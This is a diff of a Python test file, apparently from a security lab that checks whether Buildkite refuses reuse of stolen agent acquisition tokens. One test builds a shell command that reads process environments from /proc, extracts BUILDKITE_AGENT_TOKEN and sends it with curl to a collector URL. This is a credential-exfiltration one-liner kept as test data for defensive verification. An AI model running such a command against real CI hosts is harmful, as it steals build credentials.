@@ -8,16 +8,14 @@ import io
 import json
 import re
 import zipfile
-from collections.abc import Iterator
 from dataclasses import replace
-
-import pytest
 
 from attacks import hosts
 from attacks.collector import Collector
 from attacks.conftest import Seen
 from attacks.rows import attack
 from emulator.buildkite_client import Clock, Contract
+from mayfly_cli.check_buildkite.suite.acquisition_tokens import token_for
 from mayfly_lab.lab import STACK
 from stories.stage import QUICK, Stage
 from whole.output import lines
@@ -80,62 +78,64 @@ def test_a_steps_environment_reaches_no_process_of_root(
 # ---------------------------------------------------------------- acquisition tokens
 
 
-@pytest.fixture(scope="module")
-def token(stage: Stage, collector: Collector) -> Iterator[tuple[str, str]]:
-    """A running job, and its acquisition token, which its own code has sent out."""
+@attack(
+    "Job code sends its acquisition token out, which another machine uses at once",
+    refused_by="Buildkite",
+    mechanism="the token ends when Buildkite accepts the job, before any code of the job; agents"
+    " since 3.133 do not have it in their environment",
+)
+def test_a_token_that_job_code_sees_is_used_up(
+    stage: Stage, collector: Collector, seen: Seen
+) -> None:
     command = (
         "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'"
-        f" | sed -n 's/^BUILDKITE_AGENT_TOKEN=//p' | head -1"
-        f" | curl -s -d @- {collector.url}/token\n" + HOLD
+        " | sed -n 's/^BUILDKITE_AGENT_TOKEN=//p' | head -1"
+        f" | curl -s -d @- {collector.url}/token\n{HOLD}"
     )
     job = stage.push(OPEN, command)
     host = stage.running(job)
-    sent = stage.until("the token is out", lambda: collector.sent("/token"))
-    yield job, sent[0].body.strip()
+    token = stage.until("the token is out", lambda: collector.sent("/token"))[0].body.strip()
+    assert token == stage.lab.buildkite.issued_tokens()[-1], "the job has not read its token"
+    status = Contract(stage.lab.buildkite, Clock()).registration(token).status_code
     hosts.run(stage, host, "touch /tmp/go")
+    assert stage.ended(job).outcome == "passed"
+    assert status == 401
+    seen(f"the job read its own token; a registration with it, while the job runs: HTTP {status}")
 
 
 @attack(
-    "Job code sends its acquisition token out, and it is used for the same job again",
+    "A token that is still good is used for another job, from another queue, and twice",
     refused_by="Buildkite",
-    mechanism="a job has one agent; agents since 3.133 do not have the token in their environment",
+    mechanism="a token is good for one job, once, by an agent of the job's queue",
 )
-def test_a_token_gets_its_job_once(stage: Stage, token: tuple[str, str], seen: Seen) -> None:
-    job, text = token
-    assert text == stage.lab.buildkite.issued_tokens()[-1], "the job has not read its token"
+def test_a_token_gets_its_own_job_once(stage: Stage, seen: Seen) -> None:
     client = Contract(stage.lab.buildkite, Clock())
-    answer = client.agent(text, tags=(f"queue={OPEN}",)).acquire(job)
-    assert answer.status_code == 422
-    assert stage.job(job).outcome is None
-    seen(f"the token registers an agent; the job again: HTTP {answer.status_code}")
+    assert client.register_stack(queue_key=ELSEWHERE).ok
+    own, other = stage.push(ELSEWHERE), stage.push(ELSEWHERE)
+    assert client.reserve(own, other).ok
+    token = token_for(client, own)
 
+    def acquire(job: str, queue: str) -> int:
+        return client.agent(token, tags=(f"queue={queue}",)).acquire(job).status_code
 
-@attack(
-    "The token is used from another machine for another job, of its queue and of another one",
-    refused_by="Buildkite",
-    mechanism="a token is good for the job that it was minted for",
-)
-def test_a_token_gets_no_other_job(stage: Stage, token: tuple[str, str], seen: Seen) -> None:
-    _, text = token
-    client = Contract(stage.lab.buildkite, Clock())
-    stage.lab.put_parameter(OPEN, "paused", "true")
-    stage.until("the pause is in force", lambda: stage.in_force(OPEN).paused)
-    others = {OPEN: stage.push(OPEN), ELSEWHERE: stage.push(ELSEWHERE)}
     answers = {
-        queue: client.agent(text, tags=(f"queue={queue}",)).acquire(job).status_code
-        for queue, job in others.items()
+        "another job": acquire(other, ELSEWHERE),
+        "another queue": acquire(own, OPEN),
+        "its job": acquire(own, ELSEWHERE),
     }
-    states = {queue: str(stage.job(job).state) for queue, job in others.items()}
-    for job in others.values():
+    again = client.registration(token, (f"queue={ELSEWHERE}",)).status_code
+    for job in (own, other):
         stage.lab.buildkite.cancel_job(job)
-    stage.lab.put_parameter(OPEN, "paused", "false")
-    assert all(400 <= status < 500 for status in answers.values()), answers
-    assert set(states.values()) == {"scheduled"}
-    seen(f"another job of the queue: HTTP {answers[OPEN]}, of another: {answers[ELSEWHERE]}")
+    assert answers["its job"] == 200
+    assert 400 <= answers["another job"] < 500
+    assert answers["another queue"] == 404
+    assert again == 401
+    told = ", ".join(f"{what}: HTTP {status}" for what, status in answers.items())
+    seen(f"{told}, again: HTTP {again}")
 
 
 @attack(
-    "The token is used after its job has ended",
+    "A token is used after its job has ended",
     refused_by="Buildkite",
     mechanism="a token ends with its reservation",
 )
@@ -143,8 +143,7 @@ def test_a_token_is_dead_after_its_job(stage: Stage, seen: Seen) -> None:
     job = stage.push(OPEN)
     assert stage.ended(job).outcome == "passed"
     minted = stage.lab.buildkite.issued_tokens()[-1]
-    client = Contract(stage.lab.buildkite, Clock())
-    late = client.registration(minted).status_code
+    late = Contract(stage.lab.buildkite, Clock()).registration(minted).status_code
     assert late == 401
     seen(f"registration after the end: HTTP {late}")
 
